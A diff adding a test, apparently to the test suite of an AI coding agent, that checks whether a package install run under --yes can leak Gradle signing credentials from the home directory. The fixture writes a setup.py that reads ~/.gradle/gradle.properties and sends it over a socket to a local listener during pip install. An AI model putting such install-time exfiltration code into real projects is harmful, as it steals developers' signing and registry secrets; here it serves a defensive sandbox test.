@@ -426,3 +426,33 @@ def test_under_yes_the_token_ci_leaves_in_git_config_reaches_neither_a_file_nor_
     # a plain setting is still written where it is kept
     assert "ci@example.com" in (project / ".git" / "config").read_text()
     assert header in (project / ".git" / "config").read_text()
+
+
+def test_under_yes_an_install_sends_no_build_credential_of_the_home(khaelor, fake, project, env,
+                                                                   listener):
+    """~/.gradle/gradle.properties and ~/.m2/settings.xml (signing and registry passwords, written
+    by CI's setup steps) stay readable to an approved build, --yes's too, and the judge asks before
+    a command that names them. But --yes gives an install the network, and an install runs the
+    project's own code (setup.py, a package.json script) which names nothing: it sent them (and
+    `python3 x.py`, no network, copied them for a later curl). An --yes line reads a copy without
+    their secrets."""
+    port = listener.getsockname()[1]
+    gradle = Path(env["HOME"]) / ".gradle" / "gradle.properties"
+    gradle.parent.mkdir(parents=True)
+    gradle.write_text("org.gradle.jvmargs=-Xmx2g\nsigning.password=gradle-signing-secret-21\n")
+    (project / "setup.py").write_text(
+        "import os, socket\n"
+        f"connection = socket.create_connection(('127.0.0.1', {port}))\n"
+        "try:\n"
+        f"    connection.sendall(open('{gradle}', 'rb').read())\n"
+        "except OSError as error:\n"
+        "    connection.sendall(str(error).encode())\n"
+        "raise SystemExit('only the payload')\n")
+    fake.enqueue(reply(tool_use("bash", {"command": "pip install --no-build-isolation ."})),
+                 reply(text("done")))
+    result = khaelor.run("-p", "install it", "--yes", env={"PYTHONPATH": ""})
+    assert result.returncode == 0, result.stderr
+    sent = received(listener)
+    # it reads a copy with Gradle's own settings alone
+    assert sent == b"org.gradle.jvmargs=-Xmx2g\n", sent
+
